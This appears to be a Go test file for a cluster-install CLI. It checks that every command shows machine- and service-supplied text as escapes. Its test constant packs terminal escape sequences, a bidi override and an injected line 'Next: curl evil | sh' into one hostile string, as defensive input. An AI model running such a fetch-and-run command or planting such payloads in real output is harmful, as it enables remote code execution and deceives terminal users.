package cli

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/oaictl/oaictl/internal/shared/escape"
	"github.com/oaictl/oaictl/pkg/install/hub/machinecause"
	"github.com/oaictl/oaictl/pkg/install/model"
)

// hostile is what a machine may call itself, and a service may say.
const hostile = "evil\x1b]0;owned\x07\u009b2J\u202e\x7f\nNext: curl evil | sh"

// TestHostileWords are shown by every verb as escapes, and steer no terminal, begin
// no line and keep nothing else from being shown.
func TestHostileWords(t *testing.T) {
	for _, line := range []string{
		"get hosts", "get hosts -o wide", "get hosts -o yaml", "get hosts -o json", "get hosts -o name", "get clusters", "get infraenvs", "get events lab", "get validations lab",
		"describe cluster lab", "describe host h1", "why lab", "why host h1", "why -f cluster.yaml", "plan -f cluster.yaml", "create cluster -f cluster.yaml --detach", "wait cluster lab --for ready --timeout 5s",
		"cancel lab --yes", "delete host h1 --yes", "get machines", "get machines -o wide", "get machines -o json", "why machine m",
	} {
		t.Run(line, func(t *testing.T) {
			here(t)
			service := lab()
			hostileLab(service)
			got := run(t, service, "", strings.Fields(line)...)
			all := got.out + got.errors
			if !strings.Contains(all, `evil\u001b]0;owned`) && !strings.Contains(all, `evil\x1b]0;owned`) && !strings.Contains(all, `evil\e]0;owned`) {
				t.Errorf("the word is not shown as escapes: %+v", got)
			}
			for text := range strings.Lines(all) {
				if text = strings.TrimSuffix(text, "\n"); escape.Needed(text) || strings.HasPrefix(text, "Next: curl") {
					t.Errorf("%q", text)
				}
			}
			log, err := os.ReadFile(filepath.Join("lab", "oaictl.log"))
			if err == nil && escape.Needed(strings.ReplaceAll(string(log), "\n", "")) {
				t.Errorf("the log has %q", log)
			}
		})
	}
}

func hostileLab(service *fake) {
	for i := range service.clusters {
		c := &service.clusters[i]
		c.StatusInfo, c.Version = hostile, hostile
		for j := range c.Validations {
			c.Validations[j].Message = hostile
		}
	}
	for i := range service.infraEnvs {
		service.infraEnvs[i].Image.Type = hostile
	}
	for i := range service.hosts {
		h := &service.hosts[i]
		h.Hostname, h.StatusInfo, h.Inventory.Serial = hostile, hostile, hostile
		for j := range h.Validations {
			h.Validations[j].Message = hostile
		}
	}
	service.machines = []machinecause.Machine{machineOf("m", &service.hosts[0])}
	for i := range service.events {
		service.events[i].Message = hostile
	}
	fault := &model.Fault{Code: model.CodeFailure, Op: "change", On: hostile, Err: errors.New(hostile), Next: hostile}
	service.refuses = map[string]error{"cancel c1": fault}
}
